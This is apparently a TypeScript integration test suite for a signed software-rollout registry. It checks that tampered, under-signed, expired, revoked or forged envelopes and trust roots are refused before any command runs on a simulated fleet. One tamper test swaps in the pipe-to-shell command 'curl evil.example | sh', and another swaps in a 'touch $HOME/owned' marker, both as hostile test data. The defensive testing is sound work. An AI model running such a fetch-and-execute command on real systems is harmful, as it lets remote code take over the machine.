import { createHash, randomBytes } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ed25519 } from '@noble/curves/ed25519.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify as toYaml } from 'yaml';
import { createRegistryActivities } from '../../activities/registry';
import { prepareRollout } from '../../intake/prepare';
import { registerProfileEnvelopes } from '../../cli/registry-client';
import {
  adoptRegistryTrust,
  getEnvelope,
  listRevisions,
  newestRevisionAbove,
  registerEnvelope,
  registryTrustStateOf,
} from '../../clients/registry';
import { registryWorkflowId } from '../../contracts/registry';
import { fromBase64, toBase64, utf8Decode, utf8Encode } from '../../core/bytes';
import { canonicalize } from '../../core/canonical';
import type { Revision } from '../../core/revision';
import {
  bodyDigest,
  cosignEnvelope,
  keyPairFromSeed,
  parseTrust,
  pinOf,
  signRevision,
  type Envelope,
  type KeyPair,
} from '../../core/signing';
import { signDocument } from '../../core/signed-document';
import { nextRevocationsContent, nextRootContent } from '../../core/trust-admin';
import { verifyNextRoot, type RootAnchor, type TrustRoot } from '../../core/trust-root';
import { demoDevices, type Fleet } from '../../sim';
import { PROJECT_ROOT } from '../../intake/package-layout';
import { statusQuery, type RolloutStatus } from '../../contracts/rollout';
import { rolloutWorkflow, type RolloutInput } from '../../workflows/rollout';
import { runCli } from '../support/cli';
import { fleetWithInventory } from '../support/harness';
import { realRollouts } from '../support/real-rollouts';
import { rejection } from '../support/refusal';

/**
 * The revision registry (docs/architecture.md, "Signed revisions and the registry") on a real Temporal dev server: registration through
 * the entity workflow registry:<profile>, its refusals, the CLI racing itself, continue-as-new, and the
 * workers' own envelope check before every apply over real SSH to the simulated fleet.
 */
const newKey = (): KeyPair => keyPairFromSeed(new Uint8Array(randomBytes(32)));
const keyA = newKey();
const keyB = newKey();
const trustDoc = { threshold: 2, pins: [pinOf(keyA, 'release-a'), pinOf(keyB, 'release-b')] };
const DAY = 86_400_000;

function revisionOf(profile: string, n: number, extra: Partial<Revision> = {}): Revision {
  const content = `v=${n}\n`;
  return {
    profile,
    revision: n,
    apply: 'install -m 0644 "$WAVEGATE_STAGING/app.conf" "$HOME/app.conf"',
    verify: `grep -qx v=${n} "$HOME/app.conf"`,
    payload: [
      {
        name: 'app.conf',
        sha256: createHash('sha256').update(content).digest('hex'),
        size: content.length,
        source: 'payload/app.conf',
      },
    ],
    risk: 'risky',
    ...extra,
  };
}

/** Signed by both pinned keys (threshold 2), or by the keys given. */
function signed(revision: Revision, validityDays = 30, by: KeyPair[] = [keyA, keyB]): Envelope {
  const [first, ...rest] = by;
  let envelope = signRevision(revision, first!, { now: Date.now(), validityDays });
  for (const key of rest) envelope = cosignEnvelope(envelope, key);
  return envelope;
}

/**
 * A profile's trust root chain as `wavegate trust init/rotate/cosign` makes it: v0 = trustDoc (A, B; 2), v1 the same
 * pins signed by A and B, v2 replacing B by C (threshold 2) signed by A, B (v1's) and C (its own).
 */
const keyC = newKey();
function rootChain(profile: string) {
  const now = Date.now();
  const v0: RootAnchor = { version: 0, trust: parseTrust(trustDoc, 'trust.yaml') };
  const v1Body = nextRootContent({ profile, from: v0, next: trustDoc, now });
  const v1 = signDocument(v1Body, [keyA, keyB]);
  const root1 = verifyNextRoot(v0, v1, { profile }) as TrustRoot;
  const v2Body = nextRootContent({
    profile,
    from: root1,
    next: { threshold: 2, pins: [pinOf(keyA, 'release-a'), pinOf(keyC, 'release-c')] },
    now,
  });
  const v2 = signDocument(v2Body, [keyA, keyB, keyC]);
  const root2 = verifyNextRoot(root1, v2, { profile }) as TrustRoot;
  expect([root1.content?.version, root2.content?.version]).toEqual([1, 2]);
  return { v1Body, v1, v2Body, v2, root2 };
}

/** The same signatures over a body changed after signing. */
function tamper(envelope: Envelope, change: (body: Record<string, unknown>) => void): Envelope {
  const body = JSON.parse(utf8Decode(fromBase64(envelope.body)!)!) as Record<string, unknown>;
  change(body);
  return { ...envelope, body: toBase64(utf8Encode(canonicalize(body))) };
}

describe('revision registry on a real Temporal dev server', () => {
  const real = realRollouts('registry');
  const register = (
    profile: string,
    envelope: unknown,
    by = 'test',
    extra: { continueAsNewAfterEvents?: number } = {},
  ) =>
    registerEnvelope(real.env.client, { profile, envelope, trustDoc, by, taskQueue: real.worker.taskQueue, ...extra });
  /** Update events in the registry's current run: refused registrations must leave none. */
  const acceptedUpdates = async (profile: string) => {
    const history = await real.env.client.workflow.getHandle(registryWorkflowId(profile)).fetchHistory();
    return (history.events ?? []).filter((e) => e.workflowExecutionUpdateAcceptedEventAttributes).length;
  };

  it('registers, lists and returns the envelope; the same envelope again is "existing" with nothing added', async () => {
    const r1 = signed(revisionOf('reg-basic', 1));
    const r2 = signed(revisionOf('reg-basic', 2, { verify: 'true' }));
    expect(await register('reg-basic', r1, 'alice')).toMatchObject({
      outcome: 'registered',
      revision: 1,
      registryTrustDiffers: false,
    });
    const second = await register('reg-basic', r2, 'bob');
    expect(second).toMatchObject({ outcome: 'registered', revision: 2 });

    const list = await listRevisions(real.env.client, 'reg-basic');
    expect(list.map((r) => [r.revision, r.by, r.risk, r.provable, r.signers.length])).toEqual([
      [1, 'alice', 'risky', true, 2],
      [2, 'bob', 'risky', false, 2], // `verify: true` reads nothing back
    ]);
    expect(list[1]!.bodyDigest).toBe(second.bodyDigest);
    expect(Date.parse(list[0]!.expiresAt!)).toBeGreaterThan(Date.now() + 29 * DAY);
    expect(Date.parse(list[0]!.registeredAt)).toBeLessThanOrEqual(Date.now());
    expect(await getEnvelope(real.env.client, 'reg-basic', 2)).toEqual(r2);

    const again = await register('reg-basic', r1, 'carol');
    expect(again).toMatchObject({ outcome: 'existing', revision: 1 });
    expect((await listRevisions(real.env.client, 'reg-basic')).map((r) => [r.revision, r.by])).toEqual([
      [1, 'alice'],
      [2, 'bob'],
    ]);

    expect((await rejection(getEnvelope(real.env.client, 'reg-basic', 9))).code).toBe('NOT_FOUND');
    expect((await rejection(listRevisions(real.env.client, 'reg-nobody'))).code).toBe('NOT_FOUND');
    expect((await rejection(getEnvelope(real.env.client, 'reg-nobody', 1))).code).toBe('NOT_FOUND');
  });

  it('refuses the same number with other content (CONFLICT), below threshold, a tampered or non-canonical body, expired and lower-numbered envelopes; nothing is stored', async () => {
    const p = 'reg-refuse';
    const r3 = signed(revisionOf(p, 3));
    await register(p, r3);
    const before = await listRevisions(real.env.client, p);
    const updatesBefore = await acceptedUpdates(p);

    const conflict = await rejection(register(p, signed(revisionOf(p, 3, { description: 'other content' }))));
    expect(conflict.code).toBe('CONFLICT');
    expect(conflict.details.reason).toBe('CONFLICT');

    const onlyA = signRevision(revisionOf(p, 4), keyA, { now: Date.now(), validityDays: 30 });
    const below = await rejection(register(p, onlyA));
    expect([below.code, below.details.reason]).toEqual(['INVALID_INPUT', 'BELOW_THRESHOLD']);
    expect(below.message).toMatch(/1 distinct pinned signer\(s\), 2 required/);

    const tampered = tamper(signed(revisionOf(p, 5)), (body) => (body.apply = 'curl evil.example | sh'));
    expect((await rejection(register(p, tampered))).details.reason).toBe('BAD_SIGNATURE');

    // Validly signed by both keys, but over pretty-printed JSON: not the canonical form.
    const pretty = utf8Encode(
      JSON.stringify({ ...revisionOf(p, 6), expiresAt: new Date(Date.now() + DAY).toISOString() }, null, 2),
    );
    const nonCanonical: Envelope = {
      body: toBase64(pretty),
      signatures: [keyA, keyB].map((k) => ({
        kid: k.kid,
        alg: 'Ed25519' as const,
        sig: toBase64(ed25519.sign(pretty, k.secretKey)),
      })),
    };
    expect((await rejection(register(p, nonCanonical))).details.reason).toBe('NOT_CANONICAL');

    const expired = signed(revisionOf(p, 7, { expiresAt: '2020-01-01T00:00:00Z' }));
    const exp = await rejection(register(p, expired));
    expect(exp.details.reason).toBe('EXPIRED');
    expect(exp.message).toContain('2020-01-01T00:00:00Z');

    const lower = await rejection(register(p, signed(revisionOf(p, 2))));
    expect([lower.code, lower.details.reason]).toEqual(['INVALID_INPUT', 'NOT_ABOVE_CURRENT']);

    const wrongProfile = await rejection(register(p, signed(revisionOf('reg-other', 8))));
    expect(wrongProfile.details.reason).toBe('WRONG_PROFILE');

    expect(await listRevisions(real.env.client, p)).toEqual(before);
    // Refused by the update validator: not one of them reached the history.
    expect(await acceptedUpdates(p)).toBe(updatesBefore);
  });

  it('two CLI processes racing to register the same envelope both succeed, and it is stored once; refusals exit 2 with the reason code', async () => {
    const p = 'reg-race';
    const envelopePath = join(real.dir, 'race-1.json');
    const trustPath = join(real.dir, 'race-trust.yaml');
    writeFileSync(envelopePath, JSON.stringify(signed(revisionOf(p, 1)), null, 2));
    writeFileSync(trustPath, toYaml(trustDoc));
    const conn = ['--address', real.env.address, '--namespace', real.env.namespace ?? 'default'];
    const registerCli = (path: string, by: string) =>
      runCli(['register', path, '--trust', trustPath, '--by', by, ...conn, '--task-queue', real.worker.taskQueue]);

    // The registry does not exist yet: both race to create it as well.
    const [one, two] = await Promise.all([registerCli(envelopePath, 'proc-1'), registerCli(envelopePath, 'proc-2')]);
    expect([one.code, two.code], one.stderr + two.stderr).toEqual([0, 0]);
    const outcomes = [one.stdout, two.stdout].map((s) => /^(registered|existing) reg-race r1 /.exec(s)?.[1]).sort();
    expect(outcomes).toEqual(['existing', 'registered']);
    const list = await listRevisions(real.env.client, p);
    expect(list).toHaveLength(1);
    expect(['proc-1', 'proc-2']).toContain(list[0]!.by);

    const listed = await runCli(['revisions', 'list', '--profile', p, '--json', ...conn]);
    expect(listed.code, listed.stderr).toBe(0);
    expect((JSON.parse(listed.stdout) as Array<{ revision: number }>).map((r) => r.revision)).toEqual([1]);

    const belowPath = join(real.dir, 'race-2-below.json');
    writeFileSync(
      belowPath,
      JSON.stringify(signRevision(revisionOf(p, 2), keyA, { now: Date.now(), validityDays: 30 })),
    );
    const refused = await registerCli(belowPath, 'proc-3');
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/INVALID_INPUT: registry:reg-race refused the envelope \(BELOW_THRESHOLD\)/);

    const unknown = await runCli(['revisions', 'list', '--profile', 'reg-none', ...conn]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toMatch(/NOT_FOUND: profile "reg-none" has no revision registry/);
    expect(await listRevisions(real.env.client, p)).toHaveLength(1);
  });

  it('continues as new carrying its registrations once its history passes the limit', async () => {
    const p = 'reg-can';
    const handle = real.env.client.workflow.getHandle(registryWorkflowId(p));
    const envelopes = [1, 2, 3, 5, 6, 7, 8, 9].map((n) => signed(revisionOf(p, n)));
    // Each accepted registration writes 5 events (workflow task scheduled/started/completed, update
    // accepted/completed): a limit of 12 events continues as new every few registrations.
    await register(p, envelopes[0], 'test', { continueAsNewAfterEvents: 12 });
    const firstRunId = (await handle.describe()).runId;
    for (const envelope of envelopes.slice(1)) expect((await register(p, envelope)).outcome).toBe('registered');

    const now = await handle.describe();
    expect(now.runId).not.toBe(firstRunId);
    expect(now.status.name).toBe('RUNNING');
    const firstRun = await real.env.client.workflow.getHandle(registryWorkflowId(p), firstRunId).fetchHistory();
    expect(firstRun.events?.at(-1)?.workflowExecutionContinuedAsNewEventAttributes).toBeTruthy();
    // The current run's history stays short: it started from carried state, not from a replay of all.
    expect((await handle.fetchHistory()).events!.length).toBeLessThan(20);

    expect((await listRevisions(real.env.client, p)).map((r) => r.revision)).toEqual([1, 2, 3, 5, 6, 7, 8, 9]);
    expect((await register(p, envelopes[2])).outcome).toBe('existing');
    expect((await rejection(register(p, signed(revisionOf(p, 9, { description: 'again' }))))).code).toBe('CONFLICT');
    // 4 was never registered, but 9 was: the carried state still keeps the channel from moving backwards.
    expect((await rejection(register(p, signed(revisionOf(p, 4))))).details.reason).toBe('NOT_ABOVE_CURRENT');
    expect(await getEnvelope(real.env.client, p, 1)).toEqual(envelopes[0]);
  });

  it('newestRevisionAbove skips expired revisions (client and activity)', async () => {
    const p = 'reg-newest';
    await register(p, signed(revisionOf(p, 1)));
    await register(p, signed(revisionOf(p, 2, { expiresAt: new Date(Date.now() + 3_000).toISOString() })));
    const activities = createRegistryActivities({ client: real.env.client });
    expect((await newestRevisionAbove(real.env.client, p, 0))?.revision).toBe(2);
    expect((await activities.newestRevisionAbove({ profile: p, above: 0 }))?.revision).toBe(2);
    expect(await newestRevisionAbove(real.env.client, p, 2)).toBeNull();
    await new Promise((r) => setTimeout(r, 3_200));
    expect((await newestRevisionAbove(real.env.client, p, 0))?.revision).toBe(1);
    expect(await activities.newestRevisionAbove({ profile: p, above: 1 })).toBeNull();
    await expect(activities.newestRevisionAbove({ profile: 'reg-nobody', above: 0 })).rejects.toMatchObject({
      type: 'Registry.NOT_FOUND',
      nonRetryable: true,
    });
  });

  it('follows a rotated trust root only as the chain proves it: v1 and v2 (A, C) adopted, then A and C register and A and B are refused; forged roots are refused and the pins stay', async () => {
    const p = 'reg-rotate';
    const { v1Body, v1, v2Body, v2 } = rootChain(p);
    const handle = real.env.client.workflow.getHandle(registryWorkflowId(p));
    const adopt = (roots: unknown[]) => adoptRegistryTrust(real.env.client, { profile: p, offer: { roots } });
    const state = () => registryTrustStateOf(real.env.client, p);
    // Created with the first-use pins (A, B), continuing as new every few accepted updates: what it adopts must
    // survive that.
    await register(p, signed(revisionOf(p, 1)), 'test', { continueAsNewAfterEvents: 12 });
    const firstRunId = (await handle.describe()).runId;
    expect(await state()).toMatchObject({ root: 0, revocations: 0, threshold: 2, kids: [keyA.kid, keyB.kid].sort() });
    const updatesBefore = await acceptedUpdates(p);

    // Forged or incomplete chains: each refused whole, with its reason; nothing taken.
    const belowThreshold = await rejection(adopt([signDocument(v1Body, [keyA])]));
    expect([belowThreshold.code, belowThreshold.details.reason]).toEqual(['INVALID_INPUT', 'BELOW_THRESHOLD']);
    expect(belowThreshold.message).toMatch(/registry:reg-rotate refused the trust roots \(BELOW_THRESHOLD\)/);
    // v2 alone skips v1: the walk never steps over a version.
    expect((await rejection(adopt([v2]))).details.reason).toBe('ROOT_GAP');
    // v2 forged by the keys it pins (A, C), not by v1's threshold (A, B): C cannot vouch for itself.
    expect((await rejection(adopt([v1, signDocument(v2Body, [keyA, keyC])]))).details.reason).toBe('BELOW_THRESHOLD');
    // Another profile's root, signed by the right keys.
    const otherV1 = signDocument({ ...v1Body, profile: 'reg-other' }, [keyA, keyB]);
    expect((await rejection(adopt([otherV1]))).details.reason).toBe('WRONG_SUBJECT');
    expect((await rejection(adopt([]))).details.reason).toBe('MALFORMED');
    expect(await acceptedUpdates(p)).toBe(updatesBefore);
    expect(await state()).toMatchObject({ root: 0, kids: [keyA.kid, keyB.kid].sort() });
    // So a revision by A and C is still below the pins' threshold (C is not pinned).
    expect((await rejection(register(p, signed(revisionOf(p, 2), 30, [keyA, keyC])))).details.reason).toBe(
      'BELOW_THRESHOLD',
    );

    // The genuine chain, in any order.
    expect(await adopt([v2, v1])).toMatchObject({
      root: 2,
      revocations: 0,
      threshold: 2,
      kids: [keyA.kid, keyC.kid].sort(),
    });
    const rolledBack = await rejection(adopt([v1]));
    expect(rolledBack.details.reason).toBe('ROOT_ROLLBACK');
    expect(await state()).toMatchObject({ root: 2 });

    expect(await register(p, signed(revisionOf(p, 2), 30, [keyA, keyC]))).toMatchObject({ outcome: 'registered' });
    const byAB = await rejection(register(p, signed(revisionOf(p, 3), 30, [keyA, keyB])));
    expect([byAB.code, byAB.details.reason]).toEqual(['INVALID_INPUT', 'BELOW_THRESHOLD']);
    for (const n of [3, 4]) await register(p, signed(revisionOf(p, n), 30, [keyA, keyC]));

    // It continued as new in between, carrying the root it adopted: A and B alone are still refused.
    expect((await handle.describe()).runId).not.toBe(firstRunId);
    expect(await state()).toMatchObject({ root: 2, kids: [keyA.kid, keyC.kid].sort() });
    expect((await rejection(register(p, signed(revisionOf(p, 5), 30, [keyA, keyB])))).details.reason).toBe(
      'BELOW_THRESHOLD',
    );
    expect((await rejection(adopt([v2]))).details.reason).toBe('ROOT_ROLLBACK');
    expect((await listRevisions(real.env.client, p)).map((r) => [r.revision, r.signers.length])).toEqual([
      [1, 2],
      [2, 2],
      [3, 2],
      [4, 2],
    ]);
  });

  it('a revocation list adopted makes it refuse the revoked revision (new or registered before) and mark it when listed; an older or under-signed list is refused', async () => {
    const p = 'reg-revoke';
    const r2 = signed(revisionOf(p, 2));
    await register(p, signed(revisionOf(p, 1)));
    await register(p, r2);
    const adopt = (revocations: unknown) => adoptRegistryTrust(real.env.client, { profile: p, offer: { revocations } });
    const content1 = nextRevocationsContent({
      profile: p,
      change: { revision: 2 },
      reason: 'r2 corrupts the conf',
      now: Date.now(),
    });
    const content2 = nextRevocationsContent({
      profile: p,
      current: content1,
      change: { revision: 3 },
      reason: 'r3 was never meant to ship',
      now: Date.now(),
    });
    const list1 = signDocument(content1, [keyA, keyB]);
    const list2 = signDocument(content2, [keyA, keyB]);

    expect((await rejection(adopt(signDocument(content1, [keyA])))).details.reason).toBe('BELOW_THRESHOLD');
    expect((await registryTrustStateOf(real.env.client, p)).revocations).toBe(0);
    expect((await listRevisions(real.env.client, p)).map((r) => r.revoked)).toEqual([undefined, undefined]);
    expect((await newestRevisionAbove(real.env.client, p, 1))?.revision).toBe(2);

    expect(await adopt(list1)).toMatchObject({ root: 0, revocations: 1, revocationsDigest: bodyDigest(list1) });
    // Sent again (a retry): held as it is.
    expect(await adopt(list1)).toMatchObject({ revocations: 1 });
    expect((await listRevisions(real.env.client, p)).map((r) => [r.revision, r.revoked])).toEqual([
      [1, undefined],
      [2, 'r2 corrupts the conf'],
    ]);
    // The nightly canary's pick never lands on a revoked revision.
    expect(await newestRevisionAbove(real.env.client, p, 1)).toBeNull();
    // The same envelope again is no longer "existing": refused as revoked.
    const again = await rejection(register(p, r2));
    expect([again.code, again.details.reason]).toEqual(['INVALID_INPUT', 'REVOKED']);
    expect(again.message).toContain('r2 corrupts the conf');

    // r3, signed before it was revoked, is refused once the list that revokes it is held.
    const r3 = signed(revisionOf(p, 3));
    expect(await adopt(list2)).toMatchObject({ revocations: 2 });
    const revoked = await rejection(register(p, r3));
    expect([revoked.code, revoked.details.reason]).toEqual(['INVALID_INPUT', 'REVOKED']);
    expect(revoked.message).toContain('r3 was never meant to ship');
    expect((await rejection(adopt(list1))).details.reason).toBe('METADATA_ROLLBACK');
    expect(await register(p, signed(revisionOf(p, 4)))).toMatchObject({ outcome: 'registered', revision: 4 });
    expect((await listRevisions(real.env.client, p)).map((r) => r.revision)).toEqual([1, 2, 4]);
  });

  it('register --profiles offers the registry the roots and list it lacks; trust sync offers a later list; revisions list marks the revoked', async () => {
    const p = 'reg-sync';
    const profiles = join(real.dir, 'sync-profiles');
    const dir = join(profiles, p);
    mkdirSync(join(dir, 'root'), { recursive: true });
    writeFileSync(join(dir, 'trust.yaml'), toYaml(trustDoc));
    const { v1, v2 } = rootChain(p);
    writeFileSync(join(dir, 'root', '1.json'), JSON.stringify(v1));
    writeFileSync(join(dir, 'root', '2.json'), JSON.stringify(v2));
    const conn = ['--address', real.env.address, '--namespace', real.env.namespace ?? 'default'];
    const byAC = (n: number) => {
      const path = join(real.dir, `sync-${n}.json`);
      writeFileSync(path, JSON.stringify(signed(revisionOf(p, n), 30, [keyA, keyC])));
      return path;
    };
    const registerCli = (path: string) =>
      runCli([
        'register',
        path,
        '--trust',
        join(dir, 'trust.yaml'),
        '--profiles',
        profiles,
        '--by',
        'cli',
        ...conn,
        '--task-queue',
        real.worker.taskQueue,
      ]);

    // First use: the registry is created with trust.yaml's pins (A, B) and walks to v2 before r1 (A, C) is sent.
    // Two processes race to do it: one adopts the roots, the other finds them adopted; both register.
    const r1 = byAC(1);
    const runs = await Promise.all([registerCli(r1), registerCli(r1)]);
    expect(
      runs.map((r) => r.code),
      runs.map((r) => r.stderr).join('\n'),
    ).toEqual([0, 0]);
    expect(runs.map((r) => /^(registered|existing) reg-sync r1 /.exec(r.stdout)?.[1]).sort()).toEqual([
      'existing',
      'registered',
    ]);
    const stderr = runs.map((r) => r.stderr).join('');
    expect(stderr).toContain('registry:reg-sync adopted trust root v1-v2: it verifies with trust root v2');
    expect(stderr).not.toContain('refused');
    expect(await registryTrustStateOf(real.env.client, p)).toMatchObject({
      root: 2,
      kids: [keyA.kid, keyC.kid].sort(),
    });

    const list = signDocument(
      nextRevocationsContent({ profile: p, change: { revision: 1 }, reason: 'r1 leaks a port', now: Date.now() }),
      [keyA, keyC],
    );
    writeFileSync(join(dir, 'revocations.json'), JSON.stringify(list));
    const sync = await runCli(['trust', 'sync', '--profile', p, '--profiles', profiles, ...conn]);
    expect(sync.code, sync.stderr).toBe(0);
    expect(sync.stdout).toContain('registry:reg-sync adopted revocation list v1');
    const listed = await runCli(['revisions', 'list', '--profile', p, ...conn]);
    expect(listed.stdout).toMatch(/^1 .*REVOKED: r1 leaks a port$/m);
    const nothing = await runCli(['trust', 'sync', '--profile', p, '--profiles', profiles, ...conn]);
    expect(nothing.stdout).toContain(
      'registry:reg-sync already holds trust root v2 and revocation list v1: nothing to offer',
    );

    // A root on disk that its chain does not prove (v3 by C alone) is refused by the local walk first: nothing sent.
    writeFileSync(
      join(dir, 'root', '3.json'),
      JSON.stringify(signDocument({ ...JSON.parse(Buffer.from(v2.body, 'base64').toString()), version: 3 }, [keyC])),
    );
    const forged = await runCli(['trust', 'sync', '--profile', p, '--profiles', profiles, ...conn]);
    expect(forged.code).toBe(2);
    expect(forged.stderr).toContain('BELOW_THRESHOLD');
    expect(await registryTrustStateOf(real.env.client, p)).toMatchObject({ root: 2, revocations: 1 });
  });

  it('a registry created after a rotation with the pins of root v2 holds v2, and walks on from it to v3 (trust sync)', async () => {
    const p = 'reg-late';
    const profiles = join(real.dir, 'late-profiles');
    const dir = join(profiles, p);
    mkdirSync(join(dir, 'root'), { recursive: true });
    writeFileSync(join(dir, 'trust.yaml'), toYaml(trustDoc));
    const { v1, v2, root2 } = rootChain(p);
    writeFileSync(join(dir, 'root', '1.json'), JSON.stringify(v1));
    writeFileSync(join(dir, 'root', '2.json'), JSON.stringify(v2));
    const next = join(real.dir, 'late-next.yaml');
    writeFileSync(next, toYaml({ threshold: 2, pins: [pinOf(keyA, 'release-a'), pinOf(keyC, 'release-c')] }));
    const conn = ['--address', real.env.address, '--namespace', real.env.namespace ?? 'default'];
    const envelope = join(real.dir, 'late-1.json');
    writeFileSync(envelope, JSON.stringify(signed(revisionOf(p, 1), 30, [keyA, keyC])));

    const first = await runCli([
      'register',
      envelope,
      ...['--trust', next, '--profiles', profiles, ...conn, '--task-queue', real.worker.taskQueue],
    ]);
    expect(first.code, first.stderr).toBe(0);
    expect(first.stderr).not.toContain('adopted');
    expect(await registryTrustStateOf(real.env.client, p)).toMatchObject({ root: 2, rootDigest: root2.digest });

    // v3 keeps A and C, signed by both (v2's threshold and its own): walked from v2, which the registry holds.
    const v3 = signDocument(
      nextRootContent({ profile: p, from: root2, next: { threshold: 2, pins: root2.content.pins }, now: Date.now() }),
      [keyA, keyC],
    );
    writeFileSync(join(dir, 'root', '3.json'), JSON.stringify(v3));
    const sync = await runCli(['trust', 'sync', '--profile', p, '--profiles', profiles, ...conn]);
    expect(sync.code, sync.stderr).toBe(0);
    expect(sync.stdout).toContain('registry:reg-late adopted trust root v3: it verifies with trust root v3');
    expect((await registryTrustStateOf(real.env.client, p)).root).toBe(3);
  });

  describe('the demo profile through the registry, applied over SSH', () => {
    let fleet: Fleet;
    let inventoryPath: string;
    let specPath: string;
    const R2_STAGING = /staging\/demo\/2"/;
    const seed = () => ({
      profile: 'demo',
      profileDir: join(PROJECT_ROOT, 'profiles', 'demo'),
      by: 'wavegate dev',
      taskQueue: real.worker.taskQueue,
    });
    let firstRegistration: Array<[number, string]>;

    beforeAll(async () => {
      // What `wavegate demo` / `dev --demo` do at start-up.
      firstRegistration = (await registerProfileEnvelopes(real.env.client, seed())).map((r) => [r.revision, r.outcome]);
      ({ fleet, inventoryPath } = await fleetWithInventory(real.dir, demoDevices(4), { 'pool-a': 0.5, 'pool-b': 0.5 }));
      specPath = join(real.dir, 'demo-spec.yaml');
      writeFileSync(
        specPath,
        toYaml({
          rollout: {
            profile: 'demo',
            fromRevision: 1,
            toRevision: 2,
            strategy: 'phased',
            phases: [
              { canary: '1 device', gateMs: 500 },
              { bulk: 'remainder', gateMs: 500 },
            ],
            rollback: { on: 'healthGate-fail' },
          },
        }),
      );
    });
    afterAll(async () => {
      await fleet?.stop();
    });

    /**
     * Start the rollout and return its status once it settles: a failed canary trips the failure gate,
     * which (rollback on health-gate failures only) pauses for an operator with the device states intact.
     */
    const runUntilSettled = async (input: RolloutInput): Promise<RolloutStatus> => {
      const handle = await real.env.client.workflow.start(rolloutWorkflow, {
        workflowId: input.rolloutId,
        taskQueue: real.worker.taskQueue,
        args: [input],
      });
      const deadline = Date.now() + 60_000;
      for (;;) {
        const status = await handle.query(statusQuery);
        if (status.state !== 'running') {
          if (status.state === 'paused') await handle.terminate('test: inspected the paused rollout');
          return status;
        }
        if (Date.now() > deadline) throw new Error(`rollout never settled: ${JSON.stringify(status.counts)}`);
        await new Promise((r) => setTimeout(r, 200));
      }
    };

    const registeredInput = async (rolloutId: string): Promise<RolloutInput> => ({
      ...(await prepareRollout({
        specPath,
        inventoryPath,
        profilesRoot: join(PROJECT_ROOT, 'profiles'),
        startedBy: 'test',
        client: real.env.client,
      })),
      rolloutId,
    });

    it('the demo start-up registration is idempotent, and prepareRollout with a client takes the registered envelopes', async () => {
      expect(firstRegistration).toEqual([
        [1, 'registered'],
        [2, 'registered'],
      ]);
      expect((await registerProfileEnvelopes(real.env.client, seed())).map((r) => [r.revision, r.outcome])).toEqual([
        [1, 'existing'],
        [2, 'existing'],
      ]);

      const input = await registeredInput('rollout:demo-registry-0');
      const committed = (n: number) =>
        JSON.parse(readFileSync(join(PROJECT_ROOT, 'profiles/demo/envelopes', `${n}.json`), 'utf8')) as Envelope;
      expect(input.steps.envelope).toEqual(committed(2));
      expect(input.rollbackSteps.envelope).toEqual(committed(1));
      expect(input.steps).toMatchObject({ profile: 'demo', revision: 2 });
      expect(input.steps.payload[0]!.source).toBe(join(PROJECT_ROOT, 'profiles/demo/payload/motd-r2'));
      expect(input.provable).toBe(true);
    });

    it('a rollout whose apply envelope was tampered after registration fails its devices with EnvelopeRejected and runs nothing of it', async () => {
      fleet.resetCounters();
      const input = await registeredInput('rollout:demo-registry-tampered');
      // A compromised control plane swaps the command inside the envelope it hands the workers.
      input.steps = {
        ...input.steps,
        envelope: tamper(input.steps.envelope!, (body) => (body.apply = 'touch "$HOME/owned"')),
      };
      const result = await runUntilSettled(input);

      expect(result.state).toBe('paused');
      const attempted = result.devices.filter((d) => d.state === 'failed');
      expect(attempted.length).toBeGreaterThan(0);
      for (const d of attempted) expect(d.reason).toMatch(/EnvelopeRejected \(BAD_SIGNATURE\)/);
      expect(result.devices.some((d) => d.state === 'applied')).toBe(false);
      for (const device of fleet.devices) {
        // Refused before the device was contacted for revision 2: no verify, no upload, no apply.
        expect(fleet.count(device.id, R2_STAGING)).toBe(0);
        expect(fleet.count(device.id, 'owned')).toBe(0);
      }
    });

    it('steps without an envelope are refused for a profile the worker holds pins for', async () => {
      fleet.resetCounters();
      const input = await registeredInput('rollout:demo-registry-unsigned');
      const { envelope: _dropped, ...unsigned } = input.steps;
      input.steps = unsigned;
      const result = await runUntilSettled(input);
      expect(result.state).toBe('paused');
      expect(result.devices.filter((d) => d.state === 'failed').map((d) => d.reason)).not.toHaveLength(0);
      for (const d of result.devices.filter((x) => x.state === 'failed'))
        expect(d.reason).toMatch(/EnvelopeRejected \(UNSIGNED\)/);
      for (const device of fleet.devices) expect(fleet.count(device.id, R2_STAGING)).toBe(0);
    });

    it('the worker runs the command inside the verified envelope, never a separately passed string', async () => {
      fleet.resetCounters();
      const input = await registeredInput('rollout:demo-registry-substituted');
      input.steps = { ...input.steps, apply: 'touch "$HOME/owned"', verify: 'true' };
      const handle = await real.env.client.workflow.start(rolloutWorkflow, {
        workflowId: input.rolloutId,
        taskQueue: real.worker.taskQueue,
        args: [input],
      });
      const result = await handle.result();

      expect(result.state, JSON.stringify(result.devices)).toBe('completed');
      expect(result.counts.applied).toBe(4);
      for (const device of fleet.devices) {
        expect(fleet.count(device.id, 'owned')).toBe(0);
        expect(
          fleet.count(
            device.id,
            /staging\/demo\/2" && export WAVEGATE_STAGING && mkdir -p "\$HOME\/etc" && install -m 0644/,
          ),
        ).toBe(1);
        expect(readFileSync(join(device.sandbox, 'etc/motd'), 'utf8')).toContain('revision 2');
      }
    });
  });
});
